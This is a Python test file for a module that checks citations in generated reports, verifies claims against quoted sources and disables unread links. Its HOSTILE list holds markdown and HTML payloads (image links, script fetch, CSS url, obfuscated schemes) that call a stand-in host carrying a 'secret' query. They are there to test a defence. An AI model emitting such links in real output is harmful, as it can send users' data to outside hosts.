"""What a text cites, what its statements are based on, and which of its links remain."""

import re
from collections.abc import Callable, Mapping
from typing import get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chargehand.contracts import Claim, Finding, Source, Verification
from tests.parameters import first_fast
from tests.processor_time import processor_seconds
from workflows.rules.citation_checks import (
    Evidence,
    claims_of,
    list_uncited,
    mark_uncited,
    most_confidence,
    stands_in,
    weakest,
)
from workflows.rules.citations import cited_numbers, inert_links, number_refs
from workflows.rules.report_content import check_citations, keep_cited

SOURCES = tuple(Source(ref=ref) for ref in ("a.md#L1", "b.pdf#page=2", "https://c.example/[x]"))
PIECES = st.sampled_from(
    ["[S1]", "[S2]", "[S3]", "[S4]", "[S0]", "[S", "]", "S1", " text ", "[", "[S99999999999]", "[s1]"]
)
TEXTS = st.lists(PIECES, max_size=12).map("".join)


def test_a_citation_without_a_source_is_removed() -> None:
    cases = [
        ("It is so [S1][S3].", "It is so [S1][S3]."),
        ("It is so [S4].", "It is so."),
        ("It is so [S0].", "It is so."),
        ("It is so [S01].", "It is so [S1]."),
        ("It is so [S1, S2].", "It is so [S1][S2]."),
        ("It is so [S1.2; S9].", "It is so [S1.2]."),
        ("All are known [S1], [S2] and [S9].", "All are known [S1], [S2]."),
        ("All are known [S9], [S1], [S8] and [S2].", "All are known [S1] and [S2]."),
        ("It is so ([S9]).", "It is so."),
        ("[S9] says so. [S9] It is so.", "An unnamed source says so. It is so."),
        ("According to [S9], it is so.", "According to an unnamed source, it is so."),
        ("It [S9] is so.", "It is so."),
        ("It is so [s1] (S1) S2.", "It is so [s1] (S1) S2."),
        (f"It is so [S{'9' * 5_000}].", "It is so."),
        ("It is so [S٣].", "It is so [S٣]."),
    ]
    for text, checked in cases:
        assert check_citations(text, SOURCES) == checked


@given(text=TEXTS)
def test_citations_of_a_report_are_renumbered_without_gaps(text: str) -> None:
    checked = check_citations(text, SOURCES)
    answer, sources = keep_cited(checked, SOURCES)

    before, after = (re.findall(r"\[S(\d+)\]", cited) for cited in (checked, answer))
    assert cited_numbers(answer) == list(range(1, len(sources) + 1))
    assert [sources[int(number) - 1] for number in after] == [SOURCES[int(number) - 1] for number in before]


def test_refs_in_brackets_become_numbered_citations() -> None:
    numbers = {source.ref: number for number, source in enumerate(SOURCES, start=1)}
    cases: list[tuple[str, Mapping[str, int], str]] = [
        ("So [a.md#L1], and [https://c.example/[x]].", numbers, "So [S1], and [S3]."),  # refs, brackets in them too
        ("So [a.md#L1-L9] and [a.md].", numbers, "So [a.md#L1-L9] and [a.md]."),  # no part of another ref
        ("So [S2], says [b.pdf#page=2].", numbers, "So, says [S2]."),  # an agent's own numbers cite nothing
        ("So (a.md#L1).", numbers, "So (a.md#L1)."),  # no brackets, no citation
        ("[S2] [x]", {"x": 2, "S2": 1}, "[S1] [S2]"),
        ("So [S1], and [a.md#L1].", {}, "So, and [a.md#L1]."),  # without sources nothing is cited
    ]

    for text, known, numbered in cases:
        assert number_refs(text, known) == numbered


READ = "https://read.example/a_(b)"
EVIL = "https://evil.example/?q=secret"
HOSTILE = (
    f"![x]({EVIL})",
    f"[x](<{EVIL}>)",
    f"[x](\n  {EVIL} 'title')",
    f"[![x]({EVIL})]({READ})",
    f"[x]({READ}.evil.example)",
    "[x](//evil.example/a)",
    "[x](https&#58;//evil.example/a)",
    "[x](\\/\\/evil.example/a)",
    f"![x][a]\n\n[a]: {EVIL}",
    "![x][a]\n\n> [a]:\n> //evil.example/a",
    "![a]\n\n[a]: \\//evil.example/a",
    f"<img src={EVIL}>",
    f'<b style="background:url({EVIL})">x</b>',
    f'<img alt="<" src="{EVIL}">',
    f"<a\nhref='{EVIL}'>x</a>",
    f"<img/src={EVIL}>",
    "![a]\n\n[a]: h&#116;tps://evil.example/a",
    "![a]\n\n[a]: <https\\://evil.example/a>",
    f"<style>@import url({EVIL})</style>",
    f"<Script>fetch('{EVIL}')</Script>",
    f"```mermaid\nclick A {EVIL}\n```",
    f"$\\href{{{EVIL}}}{{x}}$",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_links_to_unread_addresses_are_disabled(text: str) -> None:
    html = MarkdownIt("commonmark").render(inert_links(text, [Source(ref="r", url=READ)]))

    html = re.sub(r'<a href="([^"]*)">\1</a>', r"\1", html)  # links that show their full address
    assert not re.search(r"(?i)(?:<(?:(?:a|img|b)\b[^>]*|s\w+>[^<]*)|mermaid[^<]*|\\href\{.*)evil", html)
    assert "evil.example" in html


@pytest.mark.parametrize(
    "text",
    [
        f"[x]({READ})", f"[x](<{READ}>)", f'[x]({READ} "t")', "![chart](chart-1.png)", "[S1]", "[x](#S1)",
        "a < b", "```python\n$x$",
    ],
)  # fmt: skip
def test_links_to_read_sources_are_kept(text: str) -> None:
    assert inert_links(text, [Source(ref="r", url=READ)]) == text


@pytest.mark.parametrize(
    "link", ["](", "[a](", f"](<{READ}", f"]({READ}1", "](a(a)", "]: a", "<a", "\n> 1. ```a", "\\htmla"]
)
def test_many_links_are_checked_quickly(link: str) -> None:
    """A workflow task has two seconds, however many links a model writes and however many sources exist."""
    sources = [Source(ref=f"p{number}", url=f"{READ}{number}") for number in range(1_000)]

    with processor_seconds(0.5):
        inert_links(link * (200_000 // len(link)), sources)


@pytest.mark.parametrize("check", first_fast([claims_of, mark_uncited, list_uncited]))
@pytest.mark.parametrize(
    "piece",
    ["A fact. ", "a? ", "**A.** ", "- a b c\n", "a [S1]. ", "[S1", "(a ", "\n**a", "“a", "leider kann ich keine "],
)
def test_a_long_report_is_checked_quickly(piece: str, check: Callable[[str, Evidence], object]) -> None:
    with processor_seconds(1.5):
        check(piece * (200_000 // len(piece)), EVIDENCE)


LEASE = Source(ref="lease.md#L1", quote="Notice is given three months before the end.\n[…]\nThe fee is 1,995.50 EUR")
ROWS = Source(ref="sql:1", title="SELECT sum(minutes) WHERE year = 2025", quote="name | value\nIsland | 103295.0")
PAGE = Source(ref="https://example.org/a", url="https://example.org/a", quote="A page.")
EVIDENCE = Evidence(
    (LEASE, ROWS, PAGE),
    {
        LEASE.ref: ("three months before the end", "The fee is 1,995.50 EUR"),
        PAGE.ref: ("A page.",),
        ROWS.ref: (ROWS.quote,),
    },
    (
        Finding(claim="The lease **ends**.", sources=(PAGE.ref,), confidence=9),
        Finding(claim="Mice eat cheese.", confidence=9),
    ),
    ("The price is not known.",),
)


def test_a_claim_with_several_citations_rests_on_all_of_them() -> None:
    """What only the second source says does not count against the claim, for quotes and whole sources alike."""
    for cited in ("[S1][S2]", "[S1.1][S2]", "[S1][S2.1]", "[S2][S1.2]"):
        sources = [
            Source(ref=f"{n}.md", quote=quote) for n, quote in enumerate(("The ferry left at 9.", "It took 40 cars."))
        ]
        quotations = {"0.md": ("The ferry left at 9.", "The ferry left."), "1.md": ("The ferry took 40 cars.",)}

        [claim] = claims_of(f"The ferry left with 40 cars {cited}.", Evidence(sources, quotations))

        assert claim.at_best == "supported"
        assert "The ferry took 40 cars." in claim.rests_on
        assert "The ferry left" in claim.rests_on


def test_quoted_lines_are_verified_separately() -> None:
    """List marks and the like between two quoted lines are not words of the document."""
    text = "> Notice is given\n>\n> - three months before the end.\n>\n> — [S1]"
    [claim] = claims_of(text, EVIDENCE)

    assert claim.claim.quote == "Notice is given\nthree months before the end."


def test_a_report_is_split_into_statements() -> None:
    """Sentences share their paragraph's citations, as an inference; headings, remarks and code are not claims."""
    cases: list[tuple[str, list[str]]] = [
        ("One [S3]. Two.\n\nThree.", ["cited", "cited", "unsupported"]),
        ("# Title\n\n---\n\n*A remark.*\n\nIn short:\n\n```\ncode 1\n```\n(aside)", []),
        ("All from [S3]:\n\n1. one\n2. two", ["cited", "cited"]),
        ("| a | b |\n|---|---|\n| x | y [S3] |\n| z | w |", ["cited", "unsupported"]),
        ("- one [S3]\n  goes on\n- two", ["cited", "unsupported"]),
        ("The price is not known.", []),
        ("**See first**\n\n__Open points__\n\nOne [S3].", ["cited"]),
        ("**26 knots**\n\n**It is so.**", ["unsupported", "unsupported"]),
        ("**Open.** One [S3]. Two.", ["cited", "cited"]),
        ("**Open:** One.", ["unsupported"]),
        ("这是事实。没有来源[S3]。", ["cited", "cited"]),
        ("No. 5 of Dr. J. R. Hall, e.g. this [S3].", ["cited"]),
        ("Er geht zum 31. Dezember, im 3. Quartal [S3].", ["cited"]),
        ("Den 6. april kom Mr. Toft, Sra. Roig and Prof. Weiß [S3].", ["cited"]),
        ("It rose to 31. The port closed [S3].", ["cited", "cited"]),
    ]
    for text, expected in cases:
        assert [claim.claim.verification for claim in claims_of(text, EVIDENCE)] == expected, text


def test_uncited_statements_are_marked_and_nothing_else_changes() -> None:
    text = "Three months [S1].\n\nNotice is given three months before the end.\n\n| a |\n|---|\n| Michael V. Drake |"
    marked = mark_uncited(text, EVIDENCE)

    assert list_uncited(text, EVIDENCE) == ["Notice is given three months before the end.", "Michael V. Drake"]
    assert marked == text.replace("end.", "end. *(no source)*").replace("Drake |", "Drake *(no source)* |")
    assert [claim.claim.sources for claim in claims_of(marked, EVIDENCE)] == [(LEASE.ref,), (), ()]


PARTS = st.sampled_from(
    [
        *("[S1]", "[S1.1]", "[S9]", "“", "”", "> ", "- ", "| ", "\\n", ". ", "1,995"),
        *("*", "_", "(", ")", "```", "a", "。", "    ", "—"),
    ]
)


@given(text=st.lists(PARTS, max_size=60).map("".join))
def test_no_wording_makes_a_claim_stronger_than_its_citations(text: str) -> None:
    claims = claims_of(text, EVIDENCE)

    assert all(each.claim.sources in {(), (LEASE.ref,)} for each in claims)
    assert all(each.claim.sources for each in claims if each.at_best != "unsupported")
    assert mark_uncited(text, EVIDENCE).replace(" *(no source)*", "").split() == text.split()


@given(verified=st.lists(st.sampled_from(get_args(Verification)), min_size=1, max_size=12))
def test_a_report_is_only_as_verified_as_its_weakest_claim(verified: list[Verification]) -> None:
    order, claims = get_args(Verification), [Claim(text="It is so.", verification=each) for each in verified]

    assert weakest(claims) == order[min(map(order.index, verified))]
    assert (most_confidence(claims) == 100) is {"supported", "computed"}.issuperset(verified)


@pytest.mark.parametrize(
    ("quote", "text"),
    [
        ("information is given", "infor-\nmation is given"),
        ("the well-known office", "the well-\nknown office"),
        ("the first office", "the \ufb01rst of\ufb01ce"),
        ('she said "never again"', "she said “never again”"),
        ("it's over - at last", "it’s over – at last"),
        ("co\u00adoperation pays", "cooperation pays"),
        ("ends on one page and goes on", "ends on one page\n\n   and goes on"),
    ],
)
def test_a_quotation_is_found_despite_typographic_differences(quote: str, text: str) -> None:
    assert stands_in(quote, f"Before. {text} after.")
    assert not stands_in(f"{quote} never", f"Before. {text} after.")


@pytest.mark.parametrize(
    "text",
    [
        "I'm sorry, I can't help with that.",
        "Dear Ms Weber, thank you for your letter.",
        "Vielen Dank für Ihre Anfrage.",
        "Je suis désolé, je ne peux pas répondre.",
        "Lo siento, no puedo ayudar con eso.",
        "Grazie per la domanda.",
        "I'd be glad to help.",
        "Merci à vous.",
        "Dank u wel.",
        "Let me know if you need more.",
        "I'm sorry, I cannot give legal advice.",
        "I was unable to find any information about the deposit.",
        "As an AI, I do not give legal advice.",
        "Hello Ms Weber, and thank you for your letter on rents.",
        "Good morning, Anna Weber!",
        "Kind regards, the housing desk",
        "If you want, I can draft a letter.",
        "Unfortunately, I cannot open the page.",
        "Hope this helps!",
        "Liebe Frau Weber, vielen Dank, aber leider kann ich keine Auskunft geben.",
        "Bonjour Madame Weber, malheureusement, je ne peux pas répondre.",
        "Buongiorno, purtroppo non posso aprire il documento.",
        "Olá, infelizmente não posso ajudar.",
        "Goedemorgen, helaas kan ik u niet helpen.",
    ],
)
def test_greetings_refusals_and_remarks_are_not_claims(text: str) -> None:
    """They are claims if they state a figure or cite a source."""
    source = Source(ref="a.md#L1", quote="It costs 3.")
    assert not claims_of(text, Evidence([source], {}))
    assert claims_of(f"{text.rstrip('.')} 3.", Evidence([source], {}))
    assert claims_of(f"{text.rstrip('.')} [S1].", Evidence([source], {}))


def test_a_claim_is_verified_only_against_its_own_citations() -> None:
    cases = [
        ("Notice is three months [S1.1].", "supported"),
        ("The fee is 1995.5 EUR [S1.2].", "supported"),
        ("Notice is three months [S1].", "supported"),
        ("It says “three months before the end” [S1].", "supported"),
        ("It says “three months after the end” [S1].", "cited"),
        ("It says “three months before the end” [S3].", "cited"),
        ("> Notice is given\n> three months before the end.\n>\n> — [S1]", "supported"),
        ("> Notice is given\n> - three months before the end.\n>\n> — [S1]", "supported"),
        ("> Notice is given\n> six months before the end.\n>\n> — [S1]", "cited"),
        ("**103,295** minutes in 2025 [S2]", "computed"),
        ("**103,295** minutes [S2.1]", "computed"),
        ("It says “Island | 103295.0” [S2].", "computed"),
        ("Island has most [S2].", "supported"),
        ("Notice is three months.", "unsupported"),
        ("Sorry, the notice period is six months.", "unsupported"),  # polite, but states a figure in words
        ("In short, the lease is void.", "unsupported"),
        ("Notice is three months [S7].", "unsupported"),
        ("The lease ends.", "supported"),
        ("The lease does not end.", "unsupported"),
        ("Mice eat cheese.", "unsupported"),
    ]
    for statement, verification in cases:
        [claim] = claims_of(statement, EVIDENCE)
        assert claim.at_best == verification
        assert bool(claim.claim.sources) is (verification != "unsupported")
        assert claim.claim.verification == ("cited" if claim.claim.sources else "unsupported")
        assert weakest([claim.claim]) == claim.claim.verification


@pytest.mark.parametrize(
    "said",
    [
        "Hello, the valve is broken.",
        "Thanks to the mayor the river is clean.",
        "I'm glad the mayor resigned.",
        "Gracias al alcalde el río está limpio.",
        "Grazie alla pioggia il lago è pieno.",
        "Merci aux pluies, le lac est plein.",
        "Dank zij de regen is het meer vol.",
        "Dear Ms Weber, thank you: the valve is broken.",
        "I can't find any clause on pets.",
        "I'm sorry, but I could not identify a defect in the valve.",
        "I cannot give legal advice, but the lease is void.",
        "I'm afraid the lease is void.",
        "If you have a lease, the landlord pays.",
        "Please note that the lease is void.",
        "This report shows that the valve is broken.",
        "Liebermann trat zurück.",
        "Hallo, das Ventil ist defekt.",
        "Leider kann ich im Vertrag keine Klausel zu Haustieren finden.",
        "Bonjour, la vanne est cassée.",
        "Je ne peux pas trouver de clause sur les animaux.",
        "Hola, la válvula está rota.",
        "Lo siento, no puedo encontrar ninguna cláusula sobre animales.",
        "A continuación, el alcalde dimitió.",
        "Buongiorno, la valvola è rotta.",
        "Non posso trovare alcuna clausola sugli animali.",
        "Olá, a válvula está partida.",
        "Não posso encontrar nenhuma cláusula sobre animais.",
        "Hallo, het ventiel is kapot.",
        "Helaas kan ik geen bepaling over dieren vinden.",
    ],
)
def test_a_polite_opening_does_not_hide_a_claim(said: str) -> None:
    assert [each.claim.verification for each in claims_of(said, Evidence((), {}))] == ["unsupported"]


@pytest.mark.parametrize("nothing", ["[S0]", "[S0.3]", "[p7]", "[a.md#L99]", "[sql:1f3a]"])
def test_a_statement_with_an_invalid_citation_is_unsupported(nothing: str) -> None:
    """It does not inherit other citations of its paragraph, and is not exempt as a courtesy."""
    [known, invented, after] = claims_of(f"It is so [S1]. It is red {nothing}. It is old.", Evidence(SOURCES, {}))

    assert [claim.claim.verification for claim in (known, invented, after)] == ["cited", "unsupported", "cited"]
    assert [each.claim.text for each in claims_of("It is so [S1]. Kind regards", Evidence(SOURCES, {}))] == [
        "It is so."
    ]
